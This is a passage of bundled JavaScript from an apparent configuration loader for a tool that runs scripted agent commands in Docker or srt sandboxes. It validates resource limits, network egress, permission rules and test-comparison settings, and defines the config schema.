                ctx.warn(ctx.posOf(typeof entry === 'string' ? [...p, i] : [...p, i, 'path']), `context path ${path} does not exist (MassGen refuses to start with a missing context path)`);
            }
            merged.set(path, {
                path,
                permission: e.permission === 'write' ? 'write' : 'read',
                protectedPaths: asList(e.protected_paths).map((pp) => (0,external_node_path_.isAbsolute)(String(pp)) ? String(pp) : (0,external_node_path_.resolve)(path, String(pp))),
                name: str(e.name)
            });
        });
    }
    return [...merged.values()];
}

// EXTERNAL MODULE: ./src/config/defaults.ts
var defaults = __webpack_require__(31954);
;// CONCATENATED MODULE: ./src/config/memory.ts
// Docker-style sizes ("512m", "2g", "1.5G", "2gb", or a number of bytes) → bytes.
const UNITS = { b: 1, k: 1024, m: 1024 ** 2, g: 1024 ** 3 };
function parseMemory(v) {
    if (typeof v === 'number')
        return Number.isFinite(v) && v >= 0 ? Math.floor(v) : undefined;
    if (typeof v !== 'string')
        return undefined;
    const m = /^\s*(\d+(?:\.\d+)?)\s*([bkmg])?b?\s*$/i.exec(v);
    if (!m)
        return undefined;
    return Math.floor(parseFloat(m[1]) * UNITS[(m[2] ?? 'b').toLowerCase()]);
}
/** Bytes → the shortest exact Docker-style size ("512m", "2g"), for showing a resolved limit. */
function formatBytes(n) {
    for (const [u, f] of [
        ['g', 1024 ** 3],
        ['m', 1024 ** 2],
        ['k', 1024]
    ]) {
        if (n >= f && n % f === 0)
            return `${n / f}${u}`;
    }
    return `${n}`;
}

;// CONCATENATED MODULE: ./src/config/build-docker.ts
// An agent's DockerConfig (image, limits, user, credentials, packages) from its backend keys.




function buildDocker(backend, bp, runs, ctx) {
    const sudo = backend.command_line_docker_enable_sudo === true;
    let image = str(backend.command_line_docker_image) ?? defaults/* DEFAULT_IMAGE */.__;
    if (sudo)
        image = (0,defaults/* sudoImageFor */.Cy)(image);
    let memoryBytes;
    if (backend.command_line_docker_memory_limit !== undefined) {
        const m = parseMemory(backend.command_line_docker_memory_limit);
        if (m === undefined) {
            ctx.report(ctx.posOf([...bp, 'command_line_docker_memory_limit']), `command_line_docker_memory_limit: ${JSON.stringify(backend.command_line_docker_memory_limit)} is not a size like "512m" or "2g"`);
        }
        else if (m < 6 * 1024 * 1024) {
            ctx.report(ctx.posOf([...bp, 'command_line_docker_memory_limit']), 'command_line_docker_memory_limit: Docker needs at least 6m');
        }
        memoryBytes = m;
    }
    checkCpuLimit(backend, bp, runs, ctx);
    const diskLimitBytes = diskLimit(backend, bp, ctx);
    const creds = backend.command_line_docker_credentials;
    const pkgs = backend.command_line_docker_packages?.preinstall;
    if (pkgs && asList(pkgs.system).length > 0 && !sudo) {
        ctx.report(ctx.posOf([...bp, 'command_line_docker_packages', 'preinstall', 'system']), 'system packages need command_line_docker_enable_sudo: true');
    }
    return {
        image,
        ownImage: (0,defaults/* isOwnImage */.o9)(image),
        memoryBytes,
        cpus: num(backend.command_line_docker_cpu_limit),
        network: (str(backend.command_line_docker_network_mode) ?? 'none'),
        enableSudo: sudo,
        readOnlyRootfs: typeof backend.command_line_docker_read_only_rootfs === 'boolean'
            ? backend.command_line_docker_read_only_rootfs
            : !sudo,
        pidsLimit: num(backend.command_line_docker_pids_limit) ??
            (0,defaults/* defaultPidsLimit */.Ty)(str(backend.command_line_docker_runtime)),
        runtime: str(backend.command_line_docker_runtime),
        user: str(backend.command_line_docker_user) ?? defaults/* DEFAULT_USER */.Az,
        userExplicit: str(backend.command_line_docker_user) !== undefined,
        credentials: creds ? buildCredentials(creds, ctx.wd) : undefined,
        packages: pkgs
            ? {
                python: asList(pkgs.python).map(String),
                npm: asList(pkgs.npm).map(String),
                system: asList(pkgs.system).map(String)
            }
            : undefined,
        diskLimitBytes
    };
}
/**
 * Docker refuses to start a container with more CPUs than the engine's machine has ("Range of CPUs
 * is from 0.01 to N"), so a limit above this host's count fails here, before anything starts: an
 * error for an agent that runs steps, a warning for one that runs nothing (MassGen's shipped
 * configs load on any host). The count is this host's; a remote DOCKER_HOST may have another.
 */
function checkCpuLimit(backend, bp, runs, ctx) {
    const cpus = num(backend.command_line_docker_cpu_limit);
    if (cpus === undefined || cpus <= ctx.hostCpus)
        return;
    const n = ctx.hostCpus;
    const message = `command_line_docker_cpu_limit: ${cpus} is more than the ${n} CPU${n === 1 ? '' : 's'} this host has; ` +
        `Docker refuses to start such a container (set at most ${n}, or leave the key out for no limit)`;
    const pos = ctx.posOf([...bp, 'command_line_docker_cpu_limit']);
    if (runs)
        ctx.report(pos, message);
    else
        ctx.warn(pos, `${message}; this agent runs no commands, so nothing starts`);
}
/** command_line_disk_limit (ours): a size, at least 1m; the default keeps a hosted runner's disk. */
function diskLimit(backend, bp, ctx) {
    const raw = backend.command_line_disk_limit;
    if (raw === undefined)
        return defaults/* DEFAULT_DISK_LIMIT_BYTES */.YQ;
    const bytes = parseMemory(raw);
    if (bytes === undefined || bytes < 1024 ** 2) {
        ctx.report(ctx.posOf([...bp, 'command_line_disk_limit']), `command_line_disk_limit: ${JSON.stringify(raw)} is not a size of at least 1m like "500m" or "4g"`);
        return defaults/* DEFAULT_DISK_LIMIT_BYTES */.YQ;
    }
    return bytes;
}
function buildCredentials(c, wd) {
    const mounts = (c.additional_mounts ?? {});
    return {
        mount: asList(c.mount).map(String),
        additionalMounts: Object.entries(mounts).map(([host, m]) => ({
            hostPath: (0,external_node_path_.resolve)(wd, expandHome(host)),
            bind: String(m.bind),
            // MassGen documents read-only as the default (docker-py silently mounted rw).
            mode: m.mode === 'rw' ? 'rw' : 'ro'
        })),
        envFile: c.env_file !== undefined ? (0,external_node_path_.resolve)(wd, expandHome(String(c.env_file))) : undefined,
        envVars: asList(c.env_vars).map(String),
        envVarsFromFile: asList(c.env_vars_from_file).map(String),
        passAllEnv: c.pass_all_env === true
    };
}

;// CONCATENATED MODULE: ./src/config/build-sandbox.ts
// The execution mode, the srt settings and the CA certificates an agent's sandbox gets.



/** command_line_ca_certificates: `system` kept, paths absolute; local mode has no sandbox to give them. */
function buildCaCertificates(backend, bp, mode, ctx) {
    const raw = backend.command_line_ca_certificates;
    if (raw === undefined)
        return undefined;
    if (mode === 'local')
        ctx.warn(ctx.posOf([...bp, 'command_line_ca_certificates']), "command_line_ca_certificates applies to docker and srt sandboxes; local mode runs with the runner's own trust store");
    const entries = asList(raw).map((e) => String(e) === defaults/* SYSTEM_CA */.vt ? defaults/* SYSTEM_CA */.vt : (0,external_node_path_.resolve)(ctx.wd, expandHome(String(e))));
    return entries.length ? entries : undefined;
}
function executionMode(v) {
    return v === 'docker' || v === 'srt' ? v : 'local';
}
function buildSrt(backend, wd) {
    const paths = (key) => asList(backend[key]).map((p) => (0,external_node_path_.resolve)(wd, expandHome(String(p))));
    return {
        readMode: (str(backend.command_line_srt_read_mode) ?? 'confined'),
        denyRead: paths('command_line_srt_deny_read'),
        allowRead: paths('command_line_srt_allow_read'),
        allowUnixSockets: paths('command_line_srt_allow_unix_sockets'),
        readOnly: backend.command_line_srt_read_only === true
    };
}

;// CONCATENATED MODULE: ./src/config/build-steps.ts
// An agent's `commands:` entries → Steps (run, write_file, read_file; compare specs), paths
// resolved against its workspace.


function buildStep(raw, index, workspace, timeoutSec, pos) {
    if (typeof raw === 'string') {
        return runStep({ run: raw }, index, workspace, timeoutSec, pos);
    }
    const s = (raw ?? {});
    // What write_file and read_file steps share: the step's place, and its path against the workspace.
    const fileStep = (f) => ({
        index,
        name: str(s.name),
        pos,
        path: (0,external_node_path_.resolve)(workspace, String(f.path ?? ''))
    });
    if (s.write_file !== undefined) {
        const w = s.write_file;
        return { kind: 'write_file', ...fileStep(w), content: String(w.content ?? '') };
    }
    if (s.read_file !== undefined) {
        const r = s.read_file;
        return {
            kind: 'read_file',
            ...fileStep(r),
            offset: num(r.offset) ?? 0,
            lineCount: num(r.line_count)
        };
    }
    return runStep(s, index, workspace, timeoutSec, pos);
}
function runStep(s, index, workspace, timeoutSec, pos) {
    const env = {};
    for (const [k, v] of Object.entries((s.env ?? {})))
        env[k] = v === null ? '' : String(v);
    return {
        kind: 'run',
        index,
        name: str(s.name),
        pos,
        run: String(s.run ?? ''),
        timeoutSec: num(s.timeout) ?? timeoutSec,
        workDir: s.work_dir !== undefined ? (0,external_node_path_.resolve)(workspace, String(s.work_dir)) : undefined,
        env,
        expectExit: num(s.expect_exit) ?? 0,
        allowFailure: s.allow_failure === true,
        background: s.background === true,
        junit: str(s.junit),
        ...(num(s.retries) ? { retries: num(s.retries) } : {}),
        ...(s.compare !== undefined ? { compare: compareSpec(s.compare, workspace) } : {}),
        ...(typeof s.egress === 'boolean' ? { egress: s.egress } : {})
    };
}
function compareSpec(c, workspace) {
    return {
        repo: (0,external_node_path_.resolve)(workspace, String(c.repo ?? '.')),
        base: str(c.base),
        tests: asList(c.tests).map(String),
        ...(c.allow !== undefined ? { allow: asList(c.allow).map(String) } : {}),
        ...evidenceSpec(c)
    };
}
/** compare.evidence / require / mutation (shapes and ranges checked by the schema). */
function evidenceSpec(c) {
    const req = (c.require ?? {});
    const mut = (c.mutation ?? {});
    const require = {
        ...(num(req.changed_line_coverage) !== undefined
            ? { changed_line_coverage: num(req.changed_line_coverage) }
            : {}),
        ...(num(req.mutation_score) !== undefined ? { mutation_score: num(req.mutation_score) } : {})
    };
    const mutation = {
        ...(num(mut.max_mutants) !== undefined ? { max_mutants: num(mut.max_mutants) } : {}),
        ...(num(mut.time_limit) !== undefined ? { time_limit: num(mut.time_limit) } : {})
    };
    return {
        ...(c.evidence !== undefined
            ? { evidence: [...new Set(asList(c.evidence).map(String))] }
            : {}),
        ...(c.require !== undefined ? { require } : {}),
        ...(c.mutation !== undefined ? { mutation } : {})
    };
}

// EXTERNAL MODULE: ./src/lib/egress/config.ts
var config = __webpack_require__(26205);
;// CONCATENATED MODULE: ./src/config/egress.ts
// command_line_egress (and MassGen's command_line_srt_network_allowed_domains) → EgressConfig,
// with the combinations that cannot mean what they say reported at their position.

function buildEgress(backend, bp, steps, stepsPath, posOf, report) {
    const raw = backend.command_line_egress;
    const mode = backend.command_line_execution_mode;
    // MassGen's srt list grants network to srt agents only; it is the srt mode's key to validate.
    const srtKey = 'command_line_srt_network_allowed_domains';
    const srt = mode === 'srt' && Array.isArray(backend[srtKey]) ? backend[srtKey] : undefined;
    if (raw === undefined && srt === undefined) {
        for (const s of steps)
            if (s.kind === 'run' && s.egress === true)
                report(posOf([...stepsPath, s.index, 'egress']), 'egress: true needs command_line_egress on the agent (without it the sandbox has no network)');
        return undefined;
    }
    const cfg = (0,config/* parseEgressConfig */.fn)(raw !== null && typeof raw === 'object' && !Array.isArray(raw) ? raw : undefined, srt, (path, message) => report(posOf(path[0] === 'srt' ? [...bp, srtKey, path[1]] : [...bp, 'command_line_egress', ...path]), `command_line_egress: ${message}`.replace(/^command_line_egress: (?=command_line_srt)/, '')));
    if (raw === undefined)
        return cfg;
    const net = backend.command_line_docker_network_mode;
    if (net === 'bridge' || net === 'host')
        report(posOf([...bp, 'command_line_docker_network_mode']), `command_line_docker_network_mode: ${net} gives the agent the whole network and cannot be ` +
            'combined with command_line_egress (egress runs on network none through the proxy); drop one');
    if (mode !== 'docker' && mode !== 'srt')
        report(posOf([...bp, 'command_line_egress']), 'command_line_egress needs a sandbox (command_line_execution_mode: docker or srt); local mode has ' +
            'no network boundary to enforce an allowlist with');
    return cfg;
}

;// CONCATENATED MODULE: ./src/config/permissions.ts
const PERMISSION_ACTIONS = [
    'command',
    'read_file',
    'write_file',
    'read_url',
    'mcp',
    '*'
];
/** Rule kinds with no counterpart in a scripted run (no model fetches URLs or calls MCP tools). */
const NOT_APPLICABLE = {
    read_url: 'read_url(…) rules do not apply to a scripted run: no model fetches URLs',
    mcp: 'mcp(…) rules do not apply to a scripted run: no model calls MCP tools'
};
const DECISIONS = ['deny', 'ask', 'allow'];
/** MassGen's role presets, merged with the rules (deny wins across them). */
const ROLE_RULES = {
    'read-only': {
        deny: ['write_file(*)', 'command(*)'],
        ask: ['read_url(*)'],
        allow: ['read_file(*)']
    },
    researcher: {
        deny: ['write_file(*)', 'command(*)'],
        ask: ['read_url(*)'],
        allow: ['read_file(*)']
    },
    'read-write': {},
    implementer: {}
};
const RULE = /^\s*([A-Za-z_*][\w*]*)\s*(?:\((.*)\)\s*)?$/s;
/** One rule as MassGen parses it: `command(git push*)`, or a bare action meaning `action(*)`. */
function parseRule(spec, decision, pos, origin) {
    const m = RULE.exec(spec);
    if (!m) {
        return { error: `${JSON.stringify(spec)} is not a rule like "command(git push*)"` };
    }
    const action = m[1];
    if (!PERMISSION_ACTIONS.includes(action)) {
        return {
            error: `${JSON.stringify(spec)}: unknown rule kind ${JSON.stringify(action)} (kinds: ${PERMISSION_ACTIONS.join(', ')})`,
            action
        };
    }
    const na = NOT_APPLICABLE[action];
    if (na)
        return { notApplicable: na };
    return {
        rule: {
            decision,
            action: action,
            pattern: m[2] ?? '*',
            source: spec.trim(),
            ...(origin ? { origin } : {}),
            ...(pos ? { pos } : {})
        }
    };
}
/** The applicable rules of a role preset. */
function roleRules(role) {
    const spec = ROLE_RULES[role.trim().toLowerCase()] ?? {};
    return DECISIONS.flatMap((d) => (spec[d] ?? []).flatMap((s) => {
        const r = parseRule(s, d, undefined, `role ${role}`);
        return 'rule' in r ? [r.rule] : [];
    }));
}

;// CONCATENATED MODULE: ./src/config/step-checks.ts
// Rules between a run step's keys that the shape alone cannot say (compare needs junit, a compare
// step runs inside the repository it copies, ...). Reported at the offending key.

function checkRunSteps(agent, report) {
    const roots = [
        agent.workspace,
        ...agent.contextPaths.map((c) => c.path),
        ...(agent.tempWorkspace ? [agent.tempWorkspace] : [])
    ];
    for (const step of agent.steps) {
        if (step.kind !== 'run')
            continue;
        const i = step.index;
        if (step.background && (step.compare || step.retries || step.junit)) {
            // Its command is still running when the step ends: no report, no exit code to judge.
            report(i, ['background'], 'a background step cannot have "junit", "retries" or "compare"');
        }
        const c = step.compare;
        if (!c)
            continue;
        if (!step.junit) {
            report(i, ['compare'], 'compare needs "junit": the transitions are read per test from it');
        }
        if (!c.tests.some((t) => t.trim() !== '' && !t.startsWith('!'))) {
            report(i, ['compare', 'tests'], 'compare.tests needs at least one pattern (not only "!" exclusions)');
        }
        // The trees are copied from the host into the sandbox: only what the agent may already read.
        if (!roots.some((r) => (0,paths/* isInside */.F)(c.repo, r))) {
            report(i, ['compare', 'repo'], `compare.repo ${c.repo} is outside the agent's workspace and context paths`);
        }
        const cwd = step.workDir ?? agent.workspace;
        if (!(0,paths/* isInside */.F)(cwd, c.repo)) {
            report(i, [step.workDir ? 'work_dir' : 'compare'], `the step runs in ${cwd}, outside compare.repo ${c.repo}: set work_dir inside the repository`);
        }
    }
}

;// CONCATENATED MODULE: ./src/config/suggest.ts
// "Did you mean": the closest candidate by edit distance, when it is close enough to be a typo.
function editDistance(a, b) {
    const prev = Array.from({ length: b.length + 1 }, (_, j) => j);
    for (let i = 1; i <= a.length; i++) {
        let diag = prev[0];
        prev[0] = i;
        for (let j = 1; j <= b.length; j++) {
            const up = prev[j];
            prev[j] = Math.min(prev[j] + 1, prev[j - 1] + 1, diag + (a[i - 1] === b[j - 1] ? 0 : 1));
            diag = up;
        }
    }
    return prev[b.length];
}
function suggest(word, candidates) {
    const limit = Math.max(2, Math.floor(word.length / 4));
    let best;
    let bestDistance = Infinity;
    for (const c of candidates) {
        const d = editDistance(word.toLowerCase(), c.toLowerCase());
        if (d < bestDistance) {
            best = c;
            bestDistance = d;
        }
    }
    return bestDistance <= limit ? best : undefined;
}

// EXTERNAL MODULE: ./src/config/unsafe.ts
var unsafe = __webpack_require__(75106);
;// CONCATENATED MODULE: ./src/config/build-agent.ts
// One agent of the config → AgentPlan: its paths as MassGen places them, its policy, its steps,
// and the mode-specific settings (build-docker.ts, build-sandbox.ts), egress and unsafe findings.















/** The applicable rules of one `permissions:` block (role preset first, then its rules). */
function readPermissions(raw, p, ctx) {
    if (!raw || typeof raw !== 'object')
        return [];
    const perms = raw;
    const where = p.join('.').replace(/\.(\d+)/g, '[$1]');
    if (perms.enabled === false) {
        ctx.ignored.add(`${where}.rules`, 'enabled: false switches the rules off', ctx.posOf(p));
        return [];
    }
    const out = typeof perms.role === 'string' ? roleRules(perms.role) : [];
    const rules = (perms.rules ?? {});
    for (const decision of DECISIONS) {
        asList(rules[decision]).forEach((spec, i) => {
            if (typeof spec !== 'string')
                return;
            const at = [...p, 'rules', decision, i];
            const parsed = parseRule(spec, decision, ctx.posOf(at));
            if ('rule' in parsed)
                out.push(parsed.rule);
            else if ('notApplicable' in parsed) {
                ctx.ignored.add(`${where}.rules.${decision}[${i}]`, parsed.notApplicable, ctx.posOf(at));
            }
            else {
                const near = parsed.action
                    ? suggest(parsed.action, ['command', 'read_file', 'write_file'])
                    : undefined;
                ctx.report(ctx.posOf(at), `permissions.rules.${decision}[${i}]: ${parsed.error}` +
                    (near ? ` (did you mean ${JSON.stringify(near)}?)` : ''));
            }
        });
    }
    return out;
}
function hasCwd(agent) {
    const b = agent.backend;
    return b?.cwd !== undefined && b?.cwd !== null;
}
/** MassGen's relocation: relative paths go under `.massgen/<under>`; absolute and `.massgen/…` stay. */
function massgenPath(wd, path, under) {
    const p = expandHome(path);
    if ((0,external_node_path_.isAbsolute)(p))
        return p;
    if (p.startsWith(`${MASSGEN_DIR}/`))
        return (0,external_node_path_.resolve)(wd, p);
    return (0,external_node_path_.resolve)(wd, MASSGEN_DIR, under, p);
}
function buildAgent(agent, p, defaultId, ctx) {
    const { wd, posOf, report } = ctx;
    const backend = (agent.backend ?? {});
    const bp = [...p, 'backend'];
    const id = agent.id === undefined || agent.id === null ? defaultId : String(agent.id);
    const mode = executionMode(backend.command_line_execution_mode);
    const cwdGiven = hasCwd(agent);
    const workspace = cwdGiven
        ? massgenPath(wd, String(backend.cwd), 'workspaces')
        : (0,external_node_path_.resolve)(wd, MASSGEN_DIR, 'workspaces', id);
    const sudo = backend.command_line_docker_enable_sudo === true;
    if (cwdGiven) {
        const insideMassgen = (0,paths/* isInside */.F)(workspace, (0,external_node_path_.resolve)(wd, MASSGEN_DIR));
        if (!insideMassgen && !(0,external_node_fs_.existsSync)((0,external_node_path_.dirname)(workspace))) {
            ctx.warn(posOf([...bp, 'cwd']), `the parent directory of cwd ${workspace} does not exist (it is created on the first run)`);
        }
    }
    const compile = (key) => asList(backend[key]).flatMap((source, i) => {
        const pos = posOf([...bp, key, i]);
        const c = (0,python_regex/* compilePythonRegex */.v)(String(source));
        if ('error' in c) {
            report(pos, `${key}[${i}]: ${c.error}`);
            return [];
        }
        return [{ source: String(source), regex: c.regex, pos }];
    });
    const orchTemp = ctx.orchestrator.agent_temporary_workspace;
    const tempWorkspace = orchTemp !== undefined && orchTemp !== null
        ? massgenPath(wd, String(orchTemp), '')
        : backend.agent_temporary_workspace !== undefined
            ? (0,external_node_path_.resolve)(wd, expandHome(String(backend.agent_temporary_workspace)))
            : undefined;
    const timeoutSec = num(backend.command_line_timeout) ?? ctx.defaultTimeoutSec;
    const contextPaths = mergeContextPaths(wd, [
        [backend.context_paths, [...bp, 'context_paths']],
        [ctx.orchestrator.context_paths, ['orchestrator', 'context_paths']]
    ], ctx);
    const plan = {
        id,
        mode,
        workspace,
        workspaceSource: cwdGiven ? 'cwd' : 'default',
        contextPaths,
        tempWorkspace,
        commandPrefix: str(backend.command_execution_prefix),
        venvPath: backend.command_execution_venv_path !== undefined
            ? (0,external_node_path_.resolve)(wd, String(backend.command_execution_venv_path))
            : undefined,
        policy: {
            // Outside a sudo-enabled container, privilege changes are always refused (as MassGen).
            enableSudo: mode === 'docker' && sudo,
            allowed: compile('command_line_allowed_commands'),
            blocked: compile('command_line_blocked_commands'),
            permissions: [
                ...ctx.topPermissions,
                ...readPermissions(backend.permissions, [...bp, 'permissions'], ctx)
            ]
        },
        maxOutputBytes: num(backend.command_line_max_output_bytes) ?? defaults/* DEFAULT_MAX_OUTPUT_BYTES */.n9,
        steps: asList(agent.commands).map((s, i) => buildStep(s, i, workspace, timeoutSec, posOf([...p, 'commands', i]))),
        pos: posOf(p)
    };
    if (mode === 'docker')
        plan.docker = buildDocker(backend, bp, plan.steps.length > 0, ctx);
    checkRunSteps(plan, (i, key, message) => report(posOf([...p, 'commands', i, ...key]), message));
    const egress = buildEgress(backend, bp, plan.steps, [...p, 'commands'], posOf, report);
    if (egress)
        plan.egress = egress;
    if (mode === 'srt')
        plan.srt = buildSrt(backend, ctx.wd);
    ctx.unsafe.push(...(0,unsafe/* findAgentUnsafe */.LJ)({
        plan,
        backend,
        agentPath: p,
        orchestrator: ctx.orchestrator,
        cwdGiven,
        resolvePath: (x) => (0,external_node_path_.resolve)(wd, expandHome(x)),
        host: ctx.host,
        keyAt: ctx.keyPosOf,
        at: posOf
    }));
    const cas = buildCaCertificates(backend, bp, mode, ctx);
    if (cas)
        plan.caCertificates = cas;
    return plan;
}

;// CONCATENATED MODULE: ./src/config/schema.ts
// The one description of the config's shape. The loader validates YAML nodes against it (with
// positions and "did you mean"), and scripts/gen-schema.mjs turns it into the JSON Schema in
// schema/ for editors (yaml-language-server). A new key is one entry here plus its reading in
// load.ts; a MassGen key we accept without acting on it goes in an `ignored` map with the reason.
const schema_str = (description) => ({ type: 'string', description });
const bool = (description) => ({ type: 'boolean', description });
const strList = (description) => ({ type: 'array', items: schema_str(), description });
const schema_name = { type: 'string', acceptInteger: true };
const timeout = {
    type: 'number',
    exclusiveMin: 0,
    description: 'Seconds before the command is killed.'
};
const NO_MODEL = 'not about command execution (massgen-exec runs scripted commands, no model)';
const CONTEXT_PATH = {
    type: 'oneOf',
    variants: [
        schema_str('Host path, read-only (MassGen accepts a bare string).'),
        {
            type: 'object',
            unknown: 'error',
            required: ['path'],
            props: {
                path: schema_str('Host path (relative to the working directory), mounted at the same path.'),
                permission: { type: 'string', enum: ['read', 'write'] },
                protected_paths: strList('Paths below `path` that stay read-only.'),
                name: schema_name
            }
        }
    ]
};
const COMPARE = {
    type: 'object',
    unknown: 'error',
    required: ['tests'],
    description: "Run the step on the head tree and on the base tree with the head's test files applied, and report per-test transitions (needs junit).",
    props: {
        repo: schema_str('The git work tree under test (workspace-relative; the workspace or inside a context path). Default: the workspace.'),
        base: schema_str('Base revision (SHA, branch, tag). The action input base-ref / CLI --base-ref override it.'),
        tests: {
            type: 'array',
            items: { type: 'string' },
            description: 'Which files are tests: git pathspec globs relative to the repository root ("tests/**", "**/test_*.py"); a leading "!" excludes.'
        },
        allow: {
            type: 'array',
            items: {
                type: 'string',
                enum: [
                    'runner-config',
                    'test-support',
                    'removed-test',
                    'skipped-test',
                    'report-mismatch',
                    'rerun-mismatch'
                ]
            },
            description: 'Kinds of tampering accepted knowingly (recorded in the results): without them such a change makes the verdict untrusted.'
        },
        evidence: {
            type: 'array',
            items: { type: 'string', enum: ['coverage', 'mutation'] },
            description: 'Evidence gathered on head after the verdict, in fresh sandboxes: coverage of the changed lines (coverage.py, V8), mutation testing scoped to them.'
        },
        require: {
            type: 'object',
            unknown: 'error',
            description: 'A gate (any subset): the step fails when the evidence is below it (or was not measured).',
            props: {
                changed_line_coverage: {
                    type: 'number',
                    min: 0,
                    max: 1,
                    description: 'Least share (0..1) of the changed executable lines the head suite runs (needs evidence: coverage).'
                },
                mutation_score: {
                    type: 'number',
                    min: 0,
                    max: 1,
                    description: 'Least killed / (killed + survived) over the mutants on the changed lines (needs evidence: mutation).'
                }
            }
        },
        mutation: {
            type: 'object',
            unknown: 'error',
            description: 'The budget of the mutation evidence.',
            props: {
                max_mutants: {
                    type: 'number',
                    integer: true,
                    min: 1,
                    description: 'Most mutants run (default 50); more are sampled, and the report says so.'
                },
                time_limit: {
                    type: 'number',
                    exclusiveMin: 0,
                    description: 'Seconds for all mutants together (default 600).'
                }
            }
        }
    }
};
const RUN_STEP = {
    type: 'object',
    unknown: 'error',
    required: ['run'],
    props: {
        run: schema_str('Shell command, run with /bin/sh -c.'),
        name: schema_name,
        timeout,
        work_dir: schema_str('Directory to run in; must be inside the agent workspace or a context path.'),
        env: { type: 'scalarMap', description: 'Variables for this command only.' },
        expect_exit: { type: 'number', integer: true, min: 0, description: 'Exit code that passes.' },
        allow_failure: bool('A failure of this step does not fail the run.'),
        background: bool('Start detached; output kept in the logs; killed at the end.'),
        junit: schema_str('JUnit XML report the step writes (workspace-relative); removed before the step, required fresh after it, cross-checked with the exit code.'),
        retries: {
            type: 'number',
            integer: true,
            min: 0,
            description: 'Re-run a failing step up to N times; tests that fail and then pass are listed as flaky.'
        },
        compare: COMPARE,
        egress: bool('false: nothing goes out while this step runs (needs command_line_egress on the agent).')
    }
};
const WRITE_FILE_STEP = {
    type: 'object',
    unknown: 'error',
    required: ['write_file'],
    props: {
        name: schema_name,
        write_file: {
            type: 'object',
            unknown: 'error',
            required: ['path', 'content'],
            props: { path: schema_str(), content: schema_str() }
        }
    }
};
const READ_FILE_STEP = {
    type: 'object',
    unknown: 'error',
    required: ['read_file'],
    props: {
        name: schema_name,
        read_file: {
            type: 'object',
            unknown: 'error',
            required: ['path'],
            props: {
                path: schema_str(),
                offset: {
                    type: 'number',
                    integer: true,
                    min: 0,
                    description: 'Lines to skip (default 0: from the first line).'
                },
                line_count: { type: 'number', integer: true, min: 1, description: 'Lines to return.' }
            }
        }
    }
};
const STEP = {
    type: 'oneOf',
    variants: [schema_str('Shell command.'), RUN_STEP, WRITE_FILE_STEP, READ_FILE_STEP]
};
const NETWORK_MODES = ['none', 'bridge', 'host'];
/** The presets of src/lib/egress/presets.ts (a unit test keeps the two equal). */
const EGRESS_PRESETS = [
    'python',
    'conda',
    'npm',
    'github',
    'debian',
    'ubuntu',
    'go',
    'rust',
    'ruby',
    'java'
];
const CREDENTIAL_MOUNTS = [
    'ssh_keys',
    'git_config',
    'gh_config',
    'npm_config',
    'pypi_config',
    'claude_config',
    'codex_config',
    'gemini_config'
];
/** `action(glob)` as MassGen's permissions/rules.py parses it, with the actions it knows. */
const PERMISSION_RULE_PATTERN = '^\\s*(command|read_file|write_file|read_url|mcp|\\*)\\s*(?:\\((.*)\\)\\s*)?$';
const ruleList = (description) => ({
    type: 'array',
    items: {
        type: 'string',
        pattern: PERMISSION_RULE_PATTERN,
        patternHint: 'a rule kind(glob): command, read_file, write_file, read_url, mcp or *, e.g. "command(git push*)"'
    },
    description
});
const NO_APPROVER = 'a scripted run has no one to approve an "ask"; it is blocked';
const PERMISSIONS = {
    type: 'object',
    unknown: 'error',
    description: 'MassGen 2026 permission rules: deny, then allow, then ask.',
    props: {
        enabled: bool('false switches the rules off.'),
        role: {
            type: 'string',
            enum: ['read-only', 'researcher', 'read-write', 'implementer'],
            description: 'Preset rules; read-only/researcher deny writes and commands.'
        },
        rules: {
            type: 'object',
            unknown: 'error',
            props: {
                deny: ruleList('Blocked; nothing overrides a deny.'),
                ask: ruleList('Needs approval: blocked in a scripted run unless an allow rule matches.'),
                allow: ruleList('Lifts an ask; never lets through what a rule or list blocks.')
            }
        }
    },
    ignored: {
        automation_default: NO_APPROVER,
        approval_mode: NO_APPROVER,
        approval_dir: NO_APPROVER,
        max_consecutive_auto: NO_APPROVER,
        audit: 'every verdict is in results.json and the command log',
        persist_approvals: 'no approvals are granted, so none are persisted or loaded',
        settings_path: 'persisted "always" grants are not loaded: a CI run applies only its config'
    }
};
const BACKEND = {
    type: 'object',
    // MassGen backends carry many keys that do not concern execution (type, model, api keys,
    // mcp_servers, ...): accepted and listed as ignored. Execution keys are checked strictly.
    unknown: 'ignore',
    otherKeys: NO_MODEL,
    strictPrefixes: ['command_line_', 'command_execution_'],
    props: {
        cwd: schema_str('Agent workspace; a relative path goes under .massgen/workspaces/, as in MassGen.'),
        command_line_execution_mode: { type: 'string', enum: ['local', 'docker', 'srt'] },
        command_line_srt_read_mode: {
            type: 'string',
            enum: ['confined', 'strict', 'open'],
            description: 'srt: what commands may read. confined (default): $HOME hidden except the agent paths; strict: / hidden except those and system directories; open: all but secret stores.'
        },
        command_line_srt_network_allowed_domains: strList('srt: domains the sandbox may reach (default none); adds to command_line_egress.allowed_domains, private ranges refused unless command_line_egress.allowed_private_ranges lists them.'),
        command_line_srt_deny_read: strList('srt: extra paths hidden from reads.'),
        command_line_srt_allow_read: strList('srt: extra paths readable inside a hidden region.'),
        command_line_srt_allow_unix_sockets: strList('srt: Unix sockets reachable from inside.'),
        command_line_srt_read_only: bool('srt: no writable path at all, not even the workspace.'),
        command_line_docker_image: schema_str(),
        command_line_docker_memory_limit: {
            type: 'oneOf',
            variants: [
                {
                    type: 'string',
                    pattern: '^\\s*\\d+(\\.\\d+)?\\s*[bkmgBKMG]?[bB]?\\s*$',
                    patternHint: 'a size like "512m" or "2g"'
                },
                { type: 'number', min: 0 }
            ],
            description: 'Memory limit, e.g. "2g", "512m"; swap is set equal (no swap).'
        },
        command_line_docker_cpu_limit: { type: 'number', exclusiveMin: 0 },
        command_line_docker_network_mode: { type: 'string', enum: NETWORK_MODES },
        command_line_docker_enable_sudo: bool(),
        command_line_docker_read_only_rootfs: bool('Read-only root filesystem (home and /tmp stay writable); default true, false with sudo.'),
        command_line_docker_pids_limit: {
            type: 'number',
            integer: true,
            min: 1,
            description: 'Tasks per container (pids cgroup); default 512, 4096 under gVisor (runsc), whose own host threads count too.'
        },
        command_line_docker_runtime: {
            type: 'string',
            pattern: '^[A-Za-z0-9][A-Za-z0-9_.-]*$',
            patternHint: 'a runtime name like "runsc"',
            description: "Container runtime the engine lists (`docker info`), e.g. runsc (gVisor; scripts/gvisor.sh sets it up); default: the engine's default."
        },
        command_line_docker_user: {
            type: 'string',
            pattern: '^\\d+:\\d+$',
            patternHint: 'a numeric "uid:gid"',
            description: "uid:gid commands run as (default: the workspace's owner; 1000:1000 when root owns it)."
        },
